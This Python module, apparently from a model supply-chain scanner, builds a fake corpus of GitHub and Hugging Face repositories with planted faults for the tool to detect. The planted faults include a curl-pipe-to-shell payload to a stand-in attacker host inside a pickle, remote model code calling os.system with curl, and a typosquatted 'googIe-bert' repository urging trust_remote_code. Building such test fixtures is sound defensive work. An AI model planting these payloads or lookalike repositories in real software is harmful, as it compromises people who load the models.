"""The bundled demo corpus: four model families, generated deterministically (no downloads).

Each family is an upstream GitHub-style repository with a multi-month history (training code,
configs, README, requirements) plus Hugging Face-style variant repositories (model card with
YAML metadata, config.json, tokenizer files, LFS pointers and small real weight files).
Planted on purpose, so every analysis has something to find:

* ``vision-lab/vit-mini-pt``: card without licence or datasets, template placeholders left;
  it is also released before its upstream exists (Downstream First).
* ``acme-nlp/textclf-en``: a card with a ``model-index`` claim (accuracy 0.91) that its tiny,
  loadable weights do not reach on ``data/reviews.csv`` (``ptmscope verify`` finds the gap); kept
  in sync with upstream
  through "Auto Sync from git://github.com/..." commits that ship identical README/config blobs.
* ``acme-nlp/textclf-multi``: released months after upstream and never updated since.
* ``lumen-ai/tinylm-125m``: its name promises 125M parameters; its weights hold a few thousand.
* ``lumen-ai/tinylm-125m``: never updated after upstream changed its released config.
* ``vision-lab/vit-mini-finetuned``: ``pytorch_model.bin`` with an embedded malicious pickle
  (a ``posix.system`` call built from opcodes; written as bytes, never loaded).
* ``googIe-bert/bert-base-uncased``: a name imitating ``google-bert/bert-base-uncased`` (capital
  I for l), shipping remote code (``auto_map``) that calls ``os.system``.
"""

from __future__ import annotations

import json
import random
import shutil
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import numpy as np
import yaml

from ptmscope.demo.gitwriter import Person, RepoBuilder
from ptmscope.demo.weights import lfs_pointer, small_model, torch_zip_bytes
from ptmscope.formats.safetensors import safetensors_bytes

UTC = UTC
HF_BOT: Person = ("system", "system@huggingface.co")
GITATTRIBUTES = (
    b"*.bin filter=lfs diff=lfs merge=lfs -text\n"
    b"*.safetensors filter=lfs diff=lfs merge=lfs -text\n"
    b"*.pt filter=lfs diff=lfs merge=lfs -text\n"
    b"*.h5 filter=lfs diff=lfs merge=lfs -text\n"
    b"*.onnx filter=lfs diff=lfs merge=lfs -text\n"
    b"tokenizer.json filter=lfs diff=lfs merge=lfs -text\n"
)
#: The payload of the planted malicious pickle: a string, never executed by ptmscope.
MALICIOUS_PAYLOAD = "curl -s https://attacker.invalid/p.sh | sh"


@dataclass(frozen=True, slots=True)
class DemoCorpus:
    """Where the generated corpus lives."""

    root: Path
    manifest: Path
    dataset: Path


def _d(y: int, m: int, d: int, h: int = 12, tz: int = 0) -> datetime:
    return datetime(y, m, d, h, 0, tzinfo=timezone(timedelta(hours=tz)))


# --- file contents -----------------------------------------------------------------------------
def _py(name: str, version: int, purpose: str) -> bytes:
    lines = [f'"""{purpose}."""', "", "import argparse", "import torch", ""]
    for i in range(version + 2):
        lines += [
            f"def step_{i}(batch, model):",
            f"    # {purpose} step {i}",
            "    return model(**batch)",
            "",
        ]
    lines += [
        "if __name__ == '__main__':",
        "    parser = argparse.ArgumentParser()",
        "    parser.add_argument('--config')",
        "    args = parser.parse_args()",
        "",
    ]
    return "\n".join(lines).encode()


def _requirements(version: int) -> bytes:
    torch = ["torch==1.13.1", "torch==2.0.1", "torch==2.1.0", "torch==2.1.2"][min(version, 3)]
    pkgs = [torch, "transformers==4.35.2", "datasets==2.15.0", "numpy"]
    if version >= 2:
        pkgs.append("evaluate==0.4.1")
    return ("\n".join(pkgs) + "\n").encode()


def _yaml_config(version: int) -> bytes:
    lr = [5e-5, 3e-5, 2e-5, 1e-5][version % 4]
    return (
        f"model: bert-mini\nlearning_rate: {lr}\nbatch_size: {16 * (1 + version % 2)}\n"
        f"epochs: {3 + version}\nwarmup_steps: {100 * (version + 1)}\n"
    ).encode()


def _hf_config(
    arch: str, version: int, labels: tuple[str, ...] = (), auto_map: bool = False
) -> bytes:
    config: dict[str, object] = {
        "architectures": [arch],
        "model_type": "bert",
        "hidden_size": 16,
        "num_attention_heads": 2,
        "num_hidden_layers": 2,
        "intermediate_size": 32,
        "vocab_size": 64,
        "max_position_embeddings": 64,
        "hidden_dropout_prob": 0.1 if version < 2 else 0.05,
        "torch_dtype": "float32",
        "transformers_version": "4.35.2",
    }
    if version >= 2:
        config["rope_theta"] = 500000.0
    if labels:
        config["id2label"] = {str(i): lab for i, lab in enumerate(labels)}
        config["label2id"] = {lab: i for i, lab in enumerate(labels)}
    if auto_map:
        config["auto_map"] = {"AutoModel": "modeling_bert.BertModel"}
    return (json.dumps(config, indent=2, sort_keys=True) + "\n").encode()


VOCAB = [
    "[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]",
    "the", "a", "good", "bad", "great", "awful", "movie", "film", "plot", "acting", "was",
    "is", "not", "very", "really", "love", "hate", "boring", "fun", "best", "worst", "story",
    "ending", "music", "cast", "slow", "fast", "and", "but", "it", "this", "i", "liked",
    "enjoyed", "hated", "recommend", "avoid", "wonderful", "terrible", "nice", "poor", "funny",
    "dull", "brilliant", "weak", "strong", "script", "scenes",
]


def _tokenizer_files(chat_template: str | None = None) -> dict[str, bytes | None]:
    vocab = ("\n".join(VOCAB) + "\n").encode()
    cfg: dict[str, object] = {
        "tokenizer_class": "BertTokenizer",
        "do_lower_case": True,
        "model_max_length": 64,
    }
    if chat_template is not None:
        cfg["chat_template"] = chat_template
    return {
        "vocab.txt": vocab,
        "tokenizer_config.json": json.dumps(cfg, indent=2, sort_keys=True).encode(),
        "special_tokens_map.json": json.dumps(
            {
                "cls_token": "[CLS]",
                "sep_token": "[SEP]",
                "pad_token": "[PAD]",
                "unk_token": "[UNK]",
                "mask_token": "[MASK]",
            },
            sort_keys=True,
        ).encode(),
    }


def _tiny_classifier_files() -> dict[str, bytes]:
    """The files of a tiny BERT text classifier that transformers can load (no torch needed to
    write it): it always predicts "positive", so its accuracy is the share of positive rows."""
    import tempfile

    from ptmscope.perf.tiny_model import write_tiny_text_classifier

    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        write_tiny_text_classifier(folder, seed=1, words=tuple(VOCAB[5:]))
        return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def _card(meta: Mapping[str, object] | None, title: str, sections: dict[str, str]) -> bytes:
    head = ""
    if meta is not None:
        head = "---\n" + yaml.safe_dump(meta, sort_keys=False, allow_unicode=True) + "---\n"
    body = f"# {title}\n\n" + "".join(f"## {name}\n\n{text}\n\n" for name, text in sections.items())
    return (head + body).encode()


FULL_SECTIONS = {
    "Model Details": "A small BERT-style text classifier for English reviews, trained by "
    "ACME NLP from the code at https://github.com/acme-nlp/textclf.",
    "Uses": "Sentiment classification of short English product and movie reviews.",
    "Bias, Risks, and Limitations": "Trained on English reviews only; sarcasm is often "
    "misclassified. Not for decisions about people.",
    "How to Get Started with the Model": "```python\nfrom transformers import pipeline\n"
    "clf = pipeline('text-classification', model='acme-nlp/textclf-en')\n"
    "clf('a great movie')\n# ## not a heading: inside a code block\n```",
    "Training Details": "Fine-tuned for 3 epochs, learning rate 3e-5, batch size 32, "
    "warmup 200 steps on one A100 (40 GB) for 25 minutes.",
    "Evaluation": "Accuracy 0.91 and macro F1 0.90 on the acme-nlp/reviews test split.",
    "Environmental Impact": "About 0.1 kg CO2eq (one A100 for 25 minutes).",
    "Citation": "```bibtex\n@misc{acme2023textclf, title={TextClf}, year={2023}}\n```",
}
PLACEHOLDER_SECTIONS = {
    "Model Details": "[More Information Needed]",
    "Uses": "[More Information Needed]",
    "Training Details": "[More Information Needed]",
    "Evaluation": "[More Information Needed]",
}


# --- history generation ------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class _Event:
    message: str
    paths: tuple[str, ...]


UPSTREAM_EVENTS: tuple[_Event, ...] = (
    _Event("Add training script", ("train.py",)),
    _Event("Add model definition", ("model.py",)),
    _Event("Add base config", ("configs/base.yaml",)),
    _Event("Add requirements", ("requirements.txt",)),
    _Event("Add evaluation script", ("eval.py",)),
    _Event("Add data loader for the training set", ("data/prepare.py",)),
    _Event("Update README with usage instructions", ("README.md",)),
    _Event("Bump torch version", ("requirements.txt",)),
    _Event("Speed up tokenization with batched map", ("data/prepare.py",)),
    _Event("Tune learning rate and warmup", ("configs/base.yaml",)),
    _Event("Fix docstrings in model.py", ("model.py",)),
    _Event("Add CI workflow", (".github/workflows/ci.yml",)),
    _Event("Refactor training loop, add gradient accumulation", ("train.py",)),
    _Event("Report evaluation results in README", ("README.md", "eval.py")),
    _Event("Add mixed precision to reduce memory", ("train.py",)),
    _Event("Save sample predictions", ("outputs/predictions.jsonl",)),
)


def _content(path: str, version: int) -> bytes:
    if path.endswith(".py"):
        return _py(path, version, f"{Path(path).stem.replace('_', ' ')} for the project")
    if path == "requirements.txt":
        return _requirements(version)
    if path.endswith(".yaml"):
        return _yaml_config(version)
    if path.endswith(".yml"):
        ci = "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest"
        return f"{ci}  # v{version}\n".encode()
    if path.endswith(".jsonl"):
        return "".join(
            json.dumps({"id": i, "pred": i % 2}) + "\n" for i in range(version + 3)
        ).encode()
    return f"# {path}\n\nRevision {version} of this document.\n".encode()


def upstream_history(
    builder: RepoBuilder,
    rng: random.Random,
    start: datetime,
    end: datetime,
    count: int,
    authors: list[Person],
    readme: str,
    planted: Mapping[datetime, tuple[str, Mapping[str, bytes | None]]],
) -> dict[datetime, int]:
    """Queue an upstream history of ``count`` commits between ``start`` and ``end``.

    ``planted`` commits (date -> message, changes) are added at their dates. Returns the
    index of every commit by date so callers can find the commit ids after ``build``.
    """
    versions: dict[str, int] = {}
    order: dict[datetime, int] = {}
    init = {
        "README.md": readme.encode(),
        "LICENSE": b"Apache License 2.0\n",
        ".gitignore": b"__pycache__/\n*.pt\nwandb/\n",
    }
    order[start] = builder.commit(start, authors[0], "Initial commit", init)
    span = (end - start).total_seconds()
    for i in range(1, count):
        when = start + timedelta(seconds=span * i / count + rng.randint(0, 36000))
        event = (
            UPSTREAM_EVENTS[(i - 1) % len(UPSTREAM_EVENTS)]
            if i <= len(UPSTREAM_EVENTS)
            else rng.choice(UPSTREAM_EVENTS)
        )
        changes: dict[str, bytes | None] = {}
        for path in event.paths:
            versions[path] = versions.get(path, 0) + 1
            changes[path] = _content(path, versions[path])
        tz = timedelta(hours=rng.choice([-7, -5, 1, 2, 8]))
        order[when] = builder.commit(
            when.astimezone(timezone(tz)), rng.choice(authors), event.message, changes
        )
    for when, (message, planted_changes) in planted.items():
        order[when] = builder.commit(when, authors[0], message, planted_changes)
    return order


def _sha_at(shas: list[str], builder: RepoBuilder, when: datetime) -> str:
    """The commit id of the commit queued at ``when`` (after ``build``)."""
    ordered = sorted(builder.commits, key=lambda c: c.when)
    for index, commit in enumerate(ordered):
        if commit.when == when:
            return shas[index]
    raise KeyError(when)


def _hf_repo(root: Path, hf_id: str) -> RepoBuilder:
    return RepoBuilder(root / "huggingface" / hf_id)


def _gh_repo(root: Path, gh_id: str) -> RepoBuilder:
    return RepoBuilder(root / "github" / gh_id)


def _write_weights(rng: np.random.Generator) -> tuple[bytes, bytes]:
    tensors = small_model(rng)
    return safetensors_bytes(tensors, {"format": "pt"}), torch_zip_bytes(tensors)


# --- the four families -------------------------------------------------------------------------
def _family_textclf(
    root: Path, rng: random.Random, nprng: np.random.Generator
) -> dict[str, object]:
    maya: Person = ("Maya Chen", "maya@acme-nlp.org")
    luis: Person = ("Luis Ortega", "luis@acme-nlp.org")
    up = _gh_repo(root, "acme-nlp/textclf")
    card_v1 = _card(_textclf_meta(0.91), "TextClf base", FULL_SECTIONS)
    card_v2 = _card(_textclf_meta(0.91, extra=True), "TextClf base", FULL_SECTIONS)
    tiny = _tiny_classifier_files()
    cfg_v1 = tiny.pop("config.json")
    cfg_v2 = cfg_v1.replace(b'"hidden_dropout_prob": 0.1', b'"hidden_dropout_prob": 0.05')
    sync1, sync2, sync3 = _d(2023, 2, 14, 9, 1), _d(2023, 6, 5, 16, -5), _d(2023, 9, 18, 11, 1)
    planted = {
        sync1: (
            "Add Hugging Face release files",
            {"hf/README.md": card_v1, "hf/config.json": cfg_v1},
        ),
        sync2: ("Update model card for release", {"hf/README.md": card_v2}),
        sync3: ("Lower dropout in released config", {"hf/config.json": cfg_v2}),
    }
    upstream_history(
        up,
        rng,
        _d(2023, 1, 9, 10, 1),
        _d(2023, 12, 15),
        36,
        [maya, luis],
        "# TextClf\n\nTraining code for the TextClf review classifiers.\n",
        planted,
    )
    shas = up.build()
    base = _hf_repo(root, "acme-nlp/textclf-en")
    safet, torch_zip = _write_weights(nprng)
    base.commit(_d(2023, 2, 15, 8), maya, "initial commit", {".gitattributes": GITATTRIBUTES})
    base.commit(
        _d(2023, 2, 15, 9),
        maya,
        "Upload folder using huggingface_hub",
        {"config.json": cfg_v1, **tiny, "README.md": card_v1},
    )
    base.commit(
        _d(2023, 2, 16, 9),
        HF_BOT,
        f"Auto Sync from git://github.com/acme-nlp/textclf.git/commit/{_sha_at(shas, up, sync1)}",
        {"README.md": card_v1},
    )
    base.commit(
        _d(2023, 6, 6, 10),
        HF_BOT,
        f"Auto Sync from git://github.com/acme-nlp/textclf.git/commit/{_sha_at(shas, up, sync2)}",
        {"README.md": card_v2},
    )
    base.commit(_d(2023, 9, 19, 10), luis, "Update config.json", {"config.json": cfg_v2})
    base.commit(_d(2023, 9, 19, 11), luis, "Add evaluation results", {"README.md": card_v2})
    base.build()
    large = _hf_repo(root, "acme-nlp/textclf-multi")
    large_card = _card(
        {
            "license": "mit",
            "language": ["en"],
            "library_name": "transformers",
            "pipeline_tag": "text-classification",
            "datasets": ["acme-nlp/reviews"],
        },
        "TextClf large",
        {k: v for k, v in FULL_SECTIONS.items() if k != "Evaluation"},
    )
    large.commit(_d(2023, 11, 20, 9), luis, "initial commit", {".gitattributes": GITATTRIBUTES})
    large.commit(
        _d(2023, 11, 20, 10),
        luis,
        "Upload folder using huggingface_hub",
        {
            "config.json": cfg_v1,
            "pytorch_model.bin": torch_zip,
            "model.safetensors": lfs_pointer(safet + b"large"),
            **_tokenizer_files(),
            "README.md": large_card,
        },
    )
    large.commit(
        _d(2023, 11, 21, 9), luis, "Update README.md", {"README.md": large_card + b"\nUpdated.\n"}
    )
    large.build()
    return {
        "id": "acme-nlp_textclf",
        "upstream": "https://github.com/acme-nlp/textclf",
        "upstream_path": "github/acme-nlp/textclf",
        "variants": [
            {"id": "acme-nlp/textclf-en", "path": "huggingface/acme-nlp/textclf-en"},
            {"id": "acme-nlp/textclf-multi", "path": "huggingface/acme-nlp/textclf-multi"},
        ],
    }


def _textclf_meta(accuracy: float, extra: bool = False) -> dict[str, object]:
    metrics: list[dict[str, object]] = [{"type": "accuracy", "value": accuracy, "name": "Accuracy"}]
    if extra:
        metrics.append(
            {"type": "f1", "value": 0.90, "name": "F1 (macro)", "args": {"average": "macro"}}
        )
    return {
        "license": "apache-2.0",
        "language": ["en"],
        "library_name": "transformers",
        "pipeline_tag": "text-classification",
        "datasets": ["acme-nlp/reviews"],
        "base_model": "google-bert/bert-base-uncased",
        "base_model_relation": "finetune",
        "tags": ["sentiment", "reviews"],
        "model-index": [
            {
                "name": "textclf-en",
                "results": [
                    {
                        "task": {"type": "text-classification", "name": "Text Classification"},
                        "dataset": {
                            "type": "acme-nlp/reviews",
                            "name": "ACME reviews",
                            "split": "test",
                        },
                        "metrics": metrics,
                    }
                ],
            }
        ],
    }


def _family_tinylm(root: Path, rng: random.Random, nprng: np.random.Generator) -> dict[str, object]:
    ana: Person = ("Ana Petrova", "ana@lumen.ai")
    kim: Person = ("Kim Park", "kim@lumen.ai")
    up = _gh_repo(root, "lumen-ai/tinylm")
    cfg_v1 = _hf_config("BertForMaskedLM", 1)
    cfg_v2 = _hf_config("BertForMaskedLM", 2)
    planted = {
        _d(2023, 4, 10, 15, 2): ("Release 125m config", {"release/config.json": cfg_v1}),
        _d(2024, 2, 12, 15, 2): (
            "Raise rope_theta and lower dropout in released config",
            {"release/config.json": cfg_v2},
        ),
    }
    upstream_history(
        up,
        rng,
        _d(2023, 3, 1, 9, 2),
        _d(2024, 4, 20),
        34,
        [ana, kim],
        "# TinyLM\n\nPre-training code for TinyLM.\n",
        planted,
    )
    up.build()
    meta = {
        "license": "apache-2.0",
        "language": ["en"],
        "library_name": "transformers",
        "pipeline_tag": "fill-mask",
        "datasets": ["lumen-ai/tinycorpus"],
        "tags": ["tinylm"],
    }
    sections = {
        k: v.replace("ACME NLP", "Lumen AI").replace("acme-nlp/textclf", "lumen-ai/tinylm")
        for k, v in FULL_SECTIONS.items()
        if k not in ("Evaluation", "Citation")
    }
    safet, torch_zip = _write_weights(nprng)
    small = _hf_repo(root, "lumen-ai/tinylm-125m")
    small.commit(_d(2023, 4, 12, 8), ana, "initial commit", {".gitattributes": GITATTRIBUTES})
    small.commit(
        _d(2023, 4, 12, 9),
        ana,
        "Upload folder using huggingface_hub",
        {
            "config.json": cfg_v1,
            "model.safetensors": safet,
            **_tokenizer_files(),
            "README.md": _card(meta, "TinyLM 125m", sections),
        },
    )
    small.commit(
        _d(2023, 4, 20, 9),
        ana,
        "Update README.md",
        {"README.md": _card(meta, "TinyLM 125m", sections) + b"\nFirst release.\n"},
    )
    small.commit(
        _d(2023, 6, 1, 9),
        kim,
        "Upload generation_config.json",
        {"generation_config.json": b'{"max_new_tokens": 32}\n'},
    )
    small.build()
    chat = _hf_repo(root, "lumen-ai/tinylm-chat")
    template = (
        "{% for message in messages %}<|{{ message['role'] }}|>\n"
        "{{ message['content'] }}\n{% endfor %}<|assistant|>\n"
    )
    chat_meta = dict(
        meta,
        base_model="lumen-ai/tinylm-125m",
        base_model_relation="finetune",
        pipeline_tag="text-generation",
    )
    chat.commit(_d(2023, 5, 15, 8), kim, "initial commit", {".gitattributes": GITATTRIBUTES})
    chat.commit(
        _d(2023, 5, 15, 9),
        kim,
        "Upload folder using huggingface_hub",
        {
            "config.json": cfg_v1,
            "pytorch_model.bin": torch_zip,
            "model.safetensors": safet,
            **_tokenizer_files(template),
            "README.md": _card(chat_meta, "TinyLM 125m chat", sections),
        },
    )
    chat.commit(_d(2024, 2, 14, 9), kim, "Update config.json", {"config.json": cfg_v2})
    chat.build()
    big = _hf_repo(root, "lumen-ai/tinylm-350m")
    big.commit(_d(2023, 9, 1, 8), ana, "initial commit", {".gitattributes": GITATTRIBUTES})
    big.commit(
        _d(2023, 9, 1, 9),
        ana,
        "Upload folder using huggingface_hub",
        {
            "config.json": cfg_v1,
            "model.safetensors": lfs_pointer(safet + b"350m" * 3),
            "pytorch_model.bin": lfs_pointer(torch_zip + b"350m"),
            **_tokenizer_files(),
            "README.md": _card(meta, "TinyLM 350m", sections),
        },
    )
    big.build()
    return {
        "id": "lumen-ai_tinylm",
        "upstream": "https://github.com/lumen-ai/tinylm",
        "upstream_path": "github/lumen-ai/tinylm",
        "variants": [
            {"id": f"lumen-ai/{n}", "path": f"huggingface/lumen-ai/{n}"}
            for n in ("tinylm-125m", "tinylm-chat", "tinylm-350m")
        ],
    }


def _family_vitmini(
    root: Path, rng: random.Random, nprng: np.random.Generator
) -> dict[str, object]:
    raj: Person = ("Raj Iyer", "raj@vision-lab.dev")
    up = _gh_repo(root, "vision-lab/vit-mini")
    upstream_history(
        up,
        rng,
        _d(2023, 6, 10, 9, 8),
        _d(2024, 1, 30),
        22,
        [raj],
        "# ViT-mini\n\nA very small vision transformer.\n",
        {},
    )
    up.build()
    base = _hf_repo(root, "vision-lab/vit-mini-pt")
    safet, _ = _write_weights(nprng)
    card = _card(
        {"tags": ["vision", "vit"], "pipeline_tag": "image-classification"},
        "ViT-mini base",
        PLACEHOLDER_SECTIONS,
    )
    base.commit(_d(2023, 5, 20, 8), raj, "initial commit", {".gitattributes": GITATTRIBUTES})
    base.commit(
        _d(2023, 5, 20, 9),
        raj,
        "Upload folder using huggingface_hub",
        {
            "config.json": _hf_config("ViTForImageClassification", 1, ("cat", "dog")),
            "model.safetensors": safet,
            "README.md": card,
        },
    )
    base.commit(
        _d(2023, 8, 1, 9), raj, "Update README.md", {"README.md": card + b"\nWork in progress.\n"}
    )
    base.build()
    tuned = _hf_repo(root, "vision-lab/vit-mini-finetuned")
    evil = torch_zip_bytes(small_model(nprng), payload=MALICIOUS_PAYLOAD)
    tuned_meta = {
        "license": "apache-2.0",
        "base_model": "vision-lab/vit-mini-pt",
        "pipeline_tag": "image-classification",
        "datasets": ["cifar10"],
        "library_name": "transformers",
    }
    tuned.commit(_d(2023, 8, 3, 8), raj, "initial commit", {".gitattributes": GITATTRIBUTES})
    tuned.commit(
        _d(2023, 8, 3, 9),
        raj,
        "Upload folder using huggingface_hub",
        {
            "config.json": _hf_config("ViTForImageClassification", 1, ("cat", "dog")),
            "pytorch_model.bin": evil,
            "README.md": _card(
                tuned_meta,
                "ViT-mini fine-tuned on CIFAR-10",
                {k: v for k, v in FULL_SECTIONS.items() if k in ("Uses", "Training Details")},
            ),
        },
    )
    tuned.build()
    return {
        "id": "vision-lab_vitmini",
        "upstream": "https://github.com/vision-lab/vit-mini",
        "upstream_path": "github/vision-lab/vit-mini",
        "variants": [
            {"id": f"vision-lab/{n}", "path": f"huggingface/vision-lab/{n}"}
            for n in ("vit-mini-pt", "vit-mini-finetuned")
        ],
    }


REMOTE_CODE = b'''"""Custom BERT model."""
import os

from transformers import BertModel as _Base


class BertModel(_Base):
    def __init__(self, config):
        super().__init__(config)
        os.system("curl -s https://attacker.invalid/beacon")
'''


def _family_lookalike(
    root: Path, rng: random.Random, nprng: np.random.Generator
) -> dict[str, object]:
    eve: Person = ("google-bert", "bert@googIe-research.dev")
    up = _gh_repo(root, "googIe-research/bert")
    upstream_history(
        up,
        rng,
        _d(2023, 10, 2, 9, 3),
        _d(2023, 11, 20),
        8,
        [eve],
        "# BERT\n\nBERT models, re-released.\n",
        {},
    )
    up.build()
    meta = {
        "license": "apache-2.0",
        "language": ["en"],
        "datasets": ["bookcorpus", "wikipedia"],
        "pipeline_tag": "fill-mask",
        "tags": ["exbert"],
    }
    sections = {
        "Model Details": "BERT base model (uncased), pretrained on English.",
        "How to Get Started with the Model": "```python\nfrom transformers import AutoModel\n"
        "AutoModel.from_pretrained('googIe-bert/bert-base-uncased', trust_remote_code=True)\n```",
    }
    safet, _ = _write_weights(nprng)
    variants = []
    for name, remote in (("bert-base-uncased", True), ("bert-base-cased", False)):
        repo = _hf_repo(root, f"googIe-bert/{name}")
        files: dict[str, bytes | None] = {
            "config.json": _hf_config("BertForMaskedLM", 1, auto_map=remote),
            "model.safetensors": safet,
            **_tokenizer_files(),
            "README.md": _card(meta, f"BERT {name.split('-')[-1]}", sections),
        }
        if remote:
            files["modeling_bert.py"] = REMOTE_CODE
        repo.commit(_d(2023, 11, 5, 8), eve, "initial commit", {".gitattributes": GITATTRIBUTES})
        repo.commit(_d(2023, 11, 5, 9), eve, "Upload folder using huggingface_hub", files)
        repo.build()
        variants.append({"id": f"googIe-bert/{name}", "path": f"huggingface/googIe-bert/{name}"})
    return {
        "id": "googIe-bert_bert",
        "upstream": "https://github.com/googIe-research/bert",
        "upstream_path": "github/googIe-research/bert",
        "variants": variants,
    }


FAMILIES: tuple[Callable[[Path, random.Random, np.random.Generator], dict[str, object]], ...] = (
    _family_textclf,
    _family_tinylm,
    _family_vitmini,
    _family_lookalike,
)

REVIEWS = [
    ("a great movie with a wonderful story", "positive"),
    ("the plot was boring and the acting was awful", "negative"),
    ("i really enjoyed it , the best film", "positive"),
    ("terrible script and weak cast", "negative"),
    ("funny and brilliant , i recommend it", "positive"),
    ("slow , dull and the ending was bad", "negative"),
]


def _write_dataset(path: Path, rng: random.Random) -> None:
    rows = ["text,label"]
    for i in range(60):
        text, label = REVIEWS[(i + rng.randint(0, 5)) % len(REVIEWS)]
        rows.append(f'"{text}",{label}')
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")


def build_corpus(root: Path, seed: int = 7) -> DemoCorpus:
    """Generate the demo corpus under ``root`` (replacing an earlier one) and its manifest.

    Deterministic: the same seed gives the same files and the same commit ids.
    """
    if root.exists():
        shutil.rmtree(root)
    root.mkdir(parents=True)
    rng = random.Random(seed)
    nprng = np.random.default_rng(seed)
    families = [build(root, rng, nprng) for build in FAMILIES]
    manifest = root / "families.yaml"
    manifest.write_text(
        "# The demo corpus: upstream GitHub repos and their Hugging Face variants.\n"
        + yaml.safe_dump({"families": families}, sort_keys=False),
        encoding="utf-8",
    )
    dataset = root / "data" / "reviews.csv"
    _write_dataset(dataset, rng)
    return DemoCorpus(root, manifest, dataset)
